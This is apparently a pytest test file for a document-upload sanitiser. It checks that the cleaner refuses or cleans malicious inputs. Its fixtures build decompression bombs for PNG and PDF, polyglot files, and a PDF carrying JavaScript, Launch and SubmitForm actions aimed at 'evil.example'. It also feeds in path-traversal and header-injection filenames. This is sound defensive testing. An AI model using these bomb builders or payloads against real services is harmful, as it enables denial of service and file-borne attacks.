"""Real and malicious files, made here, sent through the whole pipeline in its separate process."""

from __future__ import annotations

import hashlib
import io
import struct
import time
import zipfile
import zlib

import pikepdf
import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from expertdesk.foundation import upload_worker
from expertdesk.foundation.uploads import REFUSALS, UploadLimits, UploadRefused, clean_upload, safe_name

LIMITS = UploadLimits(
    size_bytes=10 * 1024 * 1024,
    pixels=40_000_000,
    pages=30,
    unpacked_bytes=200 * 1024 * 1024,
    seconds=10,
    memory_bytes=1024 * 1024 * 1024,
)
PDF, JPEG, PNG = "application/pdf", "image/jpeg", "image/png"


def picture(kind="JPEG", size=(60, 40), mode="RGB", **options) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, "white" if mode in ("RGB", "L") else 0).save(out, kind, **options)
    return out.getvalue()


def pdf(pages=1, change=None, **options) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as made:
        for _ in range(pages):
            made.add_blank_page(page_size=(300, 400))
        if change:
            change(made)
        made.save(out, **options)
    return out.getvalue()


def refusal(data: bytes, name="a.pdf", claimed: str | None = None, limits=LIMITS, **options) -> str:
    with pytest.raises(UploadRefused) as refused:
        clean_upload(data, name, claimed, limits, **options)
    assert str(refused.value.message) and str(refused.value.fix) and "%(" not in refused.value.text
    return refused.value.code


def opened(data: bytes) -> pikepdf.Pdf:
    return pikepdf.open(io.BytesIO(data))


# --- good files


def test_a_pdf_keeps_its_pages_and_its_original():
    data = pdf(3)
    taken = clean_upload(data, "合同 contract.PDF", PDF, LIMITS)
    assert (taken.kind, taken.clean_kind, taken.pages, taken.name) == ("pdf", "pdf", 3, "合同 contract.pdf")
    assert taken.original == data and taken.original_sha256 == hashlib.sha256(data).hexdigest()
    assert taken.clean_sha256 == hashlib.sha256(taken.clean).hexdigest() and taken.clean_type == PDF
    assert len(opened(taken.clean).pages) == 3


def test_cleaning_is_deterministic_and_the_same_in_both_ways():
    data = pdf(2)
    apart = clean_upload(data, "a.pdf", PDF, LIMITS)
    assert apart.clean == clean_upload(data, "a.pdf", None, LIMITS, isolate=False).clean


@pytest.mark.parametrize(
    ("kind", "name", "mode"),
    [
        ("JPEG", "p.jpg", "RGB"),
        ("JPEG", "p.jpeg", "L"),
        ("JPEG", "p.jpg", "CMYK"),
        ("PNG", "p.png", "RGBA"),
        ("PNG", "p.png", "P"),
        ("PNG", "p.png", "LA"),
        ("PNG", "p.png", "1"),
        ("PNG", "p.png", "I;16"),
    ],
)
def test_a_picture_becomes_one_page(kind, name, mode):
    taken = clean_upload(picture(kind, mode=mode), name, None, LIMITS)
    made = opened(taken.clean)
    assert (taken.clean_kind, taken.pages, taken.width, taken.height) == ("pdf", 1, 60, 40)
    assert len(made.pages) == 1
    left, low, right, high = (float(edge) for edge in made.pages[0].MediaBox)
    assert right - left > high - low  # lies, as the picture does
    shown = made.pages[0].Resources.XObject.Im0
    assert (int(shown.Width), int(shown.Height)) == (60, 40)


def test_a_photo_stays_a_picture_and_loses_what_the_camera_wrote():
    exif = Image.Exif()
    exif[0x0112] = 6  # lying camera
    exif[0x010F] = "SecretCamera"
    exif.get_ifd(0x8825)[2] = (39.0, 54.0, 0.0)
    data = picture(exif=exif, comment=b"SecretComment")
    assert b"SecretCamera" in data
    taken = clean_upload(data, "photo.jpg", JPEG, LIMITS, is_photo=True)
    assert (taken.kind, taken.clean_kind, taken.width, taken.height) == ("jpeg", "jpeg", 40, 60)
    assert b"Secret" not in taken.clean and b"Exif" not in taken.clean
    assert Image.open(io.BytesIO(taken.clean)).size == (40, 60)


def test_a_png_photo_loses_its_texts():
    note = PngInfo()
    note.add_text("Comment", "SecretText", zip=False)
    taken = clean_upload(picture("PNG", pnginfo=note), "photo.png", PNG, LIMITS, is_photo=True)
    assert taken.clean_kind == "png" and b"SecretText" not in taken.clean


def test_what_the_browser_does_not_know_is_no_reason_to_refuse():
    for claimed in (None, "", "application/octet-stream", "application/pdf; charset=binary"):
        assert clean_upload(pdf(), "a.pdf", claimed, LIMITS, isolate=False).kind == "pdf"


# --- refused before opening


def test_empty_and_too_large():
    assert refusal(b"") == "upload.empty"
    assert refusal(b"%PDF-" + b"0" * LIMITS.size_bytes) == "upload.too_large"
    with pytest.raises(UploadRefused) as refused:
        clean_upload(b"%PDF-" + b"0" * LIMITS.size_bytes, "a.pdf", None, LIMITS)
    assert "10.1 MB" in str(refused.value.message)


@pytest.mark.parametrize("name", ["a.exe", "a", "", ".pdf", "a.pdf.html", "a.svg", "a.docx", "a.pdf\x00.exe"])
def test_extensions(name):
    assert refusal(pdf(), name) == "upload.extension"


def test_inside_is_something_else():
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as made:
        made.writestr("a.txt", "x")
    assert refusal(archive.getvalue(), "a.pdf", PDF) == "upload.type_unknown"
    assert refusal(b"<html><script>alert(1)</script></html>\n" + pdf(), "a.pdf", PDF) == "upload.type_unknown"
    assert refusal(b"\n" + pdf()) == "upload.type_unknown"
    assert refusal(b"GIF89a" + b"0" * 100, "a.png") == "upload.type_unknown"
    assert refusal(picture("PNG"), "a.jpg") == "upload.type_mismatch"
    assert refusal(pdf(), "a.jpg") == "upload.type_mismatch"
    assert refusal(pdf(), "a.pdf", "text/html") == "upload.type_mismatch"
    assert refusal(picture(), "a.jpg", PNG) == "upload.type_mismatch"


def test_kinds_that_this_paper_does_not_take():
    only_pdf = UploadLimits(**{**LIMITS.__dict__, "kinds": ("pdf",)})
    assert refusal(picture(), "a.jpg", JPEG, only_pdf) == "upload.extension"
    assert refusal(pdf(), "a.pdf", PDF, is_photo=True) == "upload.photo_is_pdf"


def test_two_formats_in_one_file():
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as made:
        made.writestr("evil.class", "x" * 100)
    assert refusal(pdf() + archive.getvalue()) == "upload.polyglot"
    assert refusal(picture() + archive.getvalue(), "a.jpg") == "upload.polyglot"
    assert refusal(picture() + b"<ScRiPt>alert(1)</script>", "a.jpg") == "upload.polyglot"
    assert refusal(picture(comment=pdf()), "a.jpg") == "upload.polyglot"
    assert refusal(pdf() + b"\n<html><body>", "a.pdf") == "upload.polyglot"
    assert refusal(b"%PDF-1.7 <script>" + pdf()[9:], "a.pdf") == "upload.polyglot"


# --- refused while opening


def test_passwords():
    for secret in ({"user": "u", "owner": "o"}, {"user": "", "owner": "o"}):
        assert refusal(pdf(encryption=pikepdf.Encryption(**secret, R=6))) == "upload.encrypted"


def test_cut_off_and_damaged():
    large = picture(size=(800, 800), quality=95)
    noise = picture("PNG", size=(300, 300))
    assert refusal(large[: len(large) // 2], "a.jpg", JPEG) == "upload.damaged"
    assert refusal(noise[:-20], "a.png", PNG) == "upload.damaged"
    assert refusal(pdf(5)[:-200]) == "upload.damaged"
    assert refusal(b"%PDF-1.7\n") == "upload.damaged"
    assert refusal(b"%PDF-1.7\ngarbage\n%%EOF") == "upload.damaged"
    assert refusal(b"\xff\xd8\xff", "a.jpg") == "upload.damaged"
    assert refusal(b"\x89PNG\r\n\x1a\n", "a.png") == "upload.damaged"


def test_pages():
    assert refusal(pdf(0)) == "upload.no_pages"
    assert refusal(pdf(31)) == "upload.too_many_pages"
    assert clean_upload(pdf(30), "a.pdf", PDF, LIMITS, isolate=False).pages == 30


def test_a_folder_of_files_is_no_paper():
    def change(made):
        made.attachments["a.txt"] = b"x"
        made.Root.Collection = pikepdf.Dictionary(Type=pikepdf.Name.Collection)

    assert refusal(pdf(1, change)) == "upload.portfolio"


def png_bomb(side: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    packer = zlib.compressobj(9)
    row = b"\x00" * (side // 8 + 1)
    body = b"".join(packer.compress(row * 1000) for _ in range(side // 1000)) + packer.flush()
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def test_a_picture_of_400_megapixels():
    bomb = png_bomb(20_000)
    assert len(bomb) < 100_000
    begin = time.monotonic()
    assert refusal(bomb, "a.png", PNG) == "upload.too_many_pixels"
    assert time.monotonic() - begin < 8


def bombed(made, filters, data, **entries):
    stream = pikepdf.Stream(made, data)
    made.pages[0].Contents = made.make_indirect(stream)
    made.pages[0].Contents.write(data, filter=filters, type_check=False)
    for key, value in entries.items():
        made.pages[0].Contents[f"/{key}"] = value


def test_a_pdf_that_unpacks_to_gigabytes():
    packer = zlib.compressobj(9)
    once = b"".join(packer.compress(b"\x00" * (1 << 20)) for _ in range(250)) + packer.flush()
    twice = zlib.compress(once, 9)
    flate = pikepdf.Name.FlateDecode
    raw = {"stream_decode_level": pikepdf.StreamDecodeLevel.none, "compress_streams": False}
    assert refusal(pdf(1, lambda made: bombed(made, flate, once), **raw)) == "upload.bomb"
    data = pdf(1, lambda made: bombed(made, pikepdf.Array([flate, flate]), twice), **raw)
    assert len(data) < 5000 and refusal(data) == "upload.bomb"


def test_measuring_stops_at_the_limit():
    packed = zlib.compress(b"\x00" * 10_000_000)
    with pytest.raises(upload_worker.Refusal):
        upload_worker._inflate(packed, 1_000_000, upload_worker._Deadline(10))
    assert len(upload_worker._inflate(packed, 10_000_000, upload_worker._Deadline(10))) == 10_000_000


def object_stream_bomb(megabytes: int) -> bytes:
    """A whole, valid PDF; its catalogue stands in an object stream followed by this many megabytes of
    spaces."""
    packer = zlib.compressobj(9)
    body = packer.compress(b"1 0 << /Type /Catalog /Pages 3 0 R >>")
    body += b"".join(packer.compress(b" " * (1 << 20)) for _ in range(megabytes)) + packer.flush()
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(body)
    parts = [
        b"%PDF-1.5\n",
        b"2 0 obj\n" + head + b"\nstream\n" + body + b"\nendstream\nendobj\n",
        b"3 0 obj\n<< /Type /Pages /Count 1 /Kids [ 5 0 R ] >>\nendobj\n",
        b"5 0 obj\n<< /Type /Page /Parent 3 0 R /MediaBox [ 0 0 9 9 ] >>\nendobj\n",
    ]
    starts = [sum(map(len, parts[:count])) for count in range(1, 5)]  # of objects 2, 3, 5 and 4 (the table)
    rows = [(0, 0, 0), (2, 2, 0), (1, starts[0], 0), (1, starts[1], 0), (1, starts[3], 0), (1, starts[2], 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    head = b"<< /Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R /Length %d >>" % len(table)
    parts.append(b"4 0 obj\n" + head + b"\nstream\n" + table + b"\nendstream\nendobj\n")
    return b"".join(parts) + b"startxref\n%d\n%%%%EOF\n" % starts[3]


def test_a_pdf_whose_object_stream_unpacks_to_gigabytes():
    """It unpacks object streams whole, before any measuring: the memory limit of the process holds."""
    assert clean_upload(object_stream_bomb(1), "a.pdf", PDF, LIMITS).pages == 1
    bomb = object_stream_bomb(400)
    assert len(bomb) < LIMITS.size_bytes
    narrow = UploadLimits(**{**LIMITS.__dict__, "memory_bytes": 400 * 1024 * 1024})
    assert refusal(bomb, limits=narrow) in ("upload.too_costly", "upload.damaged")


def test_a_picture_inside_a_pdf_is_measured_too():
    def change(made):
        huge = pikepdf.Stream(
            made, b"\x00", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=90_000, Height=90_000
        )
        made.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im=made.make_indirect(huge)))

    assert refusal(pdf(1, change)) == "upload.too_many_pixels"


def test_time_is_limited():
    hurried = UploadLimits(**{**LIMITS.__dict__, "seconds": 0})
    assert refusal(pdf(3), limits=hurried) == "upload.too_costly"


# --- cleaned


def arm(made: pikepdf.Pdf) -> None:
    name, script = pikepdf.Name, pikepdf.String("app.alert(1)")
    action = pikepdf.Dictionary(S=name.JavaScript, JS=script)
    launch = made.make_indirect(pikepdf.Dictionary(S=name.Launch, F=pikepdf.String("/bin/evil")))
    send = pikepdf.Dictionary(S=name.SubmitForm, F=pikepdf.String("http://evil.example/"))
    link = pikepdf.Dictionary(S=name.URI, URI=pikepdf.String("https://example.org/"), Next=action)
    made.attachments["evil.exe"] = b"MZevil"
    made.Root.OpenAction = action
    made.Root.AA = pikepdf.Dictionary(WC=action)
    made.Root.Names.JavaScript = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x"), action]))
    made.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([]), XFA=pikepdf.String("<xdp/>"))
    page = made.pages[0].obj
    page.AA = pikepdf.Dictionary(O=action)
    rect = pikepdf.Array([0, 0, 9, 9])
    notes = [
        pikepdf.Dictionary(Type=name.Annot, Subtype=name.Link, Rect=rect, A=one)
        for one in (action, launch, send, link)
    ]
    hidden = pikepdf.Dictionary(S=name.Launch, P=page, F=pikepdf.String("evil"))
    made.Root.Outlines = pikepdf.Dictionary(
        First=made.make_indirect(pikepdf.Dictionary(A=made.make_indirect(hidden)))
    )
    made.Root.Stray = made.make_indirect(pikepdf.Dictionary(S=name.Launch, P=page, F=pikepdf.String("evil")))
    notes.append(pikepdf.Dictionary(Type=name.Annot, Subtype=name.FileAttachment, Rect=rect))
    notes.append(
        pikepdf.Dictionary(Type=name.Annot, Subtype=name.Widget, Rect=rect, AA=pikepdf.Dictionary(K=action))
    )
    page.Annots = pikepdf.Array([made.make_indirect(note) for note in notes])
    made.Root.AcroForm.Fields.append(page.Annots[-1])
    made.docinfo["/Author"] = "SecretAuthor"


@pytest.mark.parametrize("mode", list(pikepdf.ObjectStreamMode.__members__.values()))
def test_everything_that_runs_is_taken_out(mode):
    data = pdf(1, arm, object_stream_mode=mode)
    taken = clean_upload(data, "a.pdf", PDF, LIMITS)
    out = io.BytesIO()
    clean = opened(taken.clean)
    clean.save(
        out,
        object_stream_mode=pikepdf.ObjectStreamMode.disable,
        stream_decode_level=pikepdf.StreamDecodeLevel.all,
    )
    plain = out.getvalue()
    for word in (
        b"JavaScript",
        b"app.alert",
        b"Launch",
        b"evil",
        b"SubmitForm",
        b"OpenAction",
        b"/AA",
        b"FileAttachment",
        b"EmbeddedFile",
        b"MZ",
        b"xdp",
        b"SecretAuthor",
    ):
        assert word not in plain, word
    assert b"https://example.org/" in plain
    assert len(clean.pages) == 1 and len(clean.pages[0].Annots) == 5
    assert taken.original == data


def test_names_for_showing():
    assert safe_name("C:\\Users\\x\\pass port.JPG", "jpeg") == "pass port.jpg"
    assert safe_name("../../etc/passwd.pdf", "pdf") == "passwd.pdf"
    assert safe_name('a"b\r\nSet-Cookie: x.pdf', "pdf") == "abSet-Cookie x.pdf"
    assert safe_name("\u202egpj.pdf", "pdf") == "gpj.pdf"
    assert safe_name("护照𬭎.png", "png") == "护照𬭎.png"
    assert safe_name("", "pdf") == safe_name("...pdf", "pdf") == "file.pdf"
    assert len(safe_name("x" * 500 + ".pdf", "pdf")) <= 124


def test_every_refusal_has_a_sentence():
    for code in REFUSALS:
        values = {
            "size": 1,
            "limit": 1,
            "kinds": "PDF",
            "actual": "PDF",
            "pages": 1,
            "most_pages": 1,
            "megapixels": 1,
        }
        refused = UploadRefused(code, values)
        assert len(str(refused.message)) > 15 and len(str(refused.fix)) > 15 and "%" not in refused.text
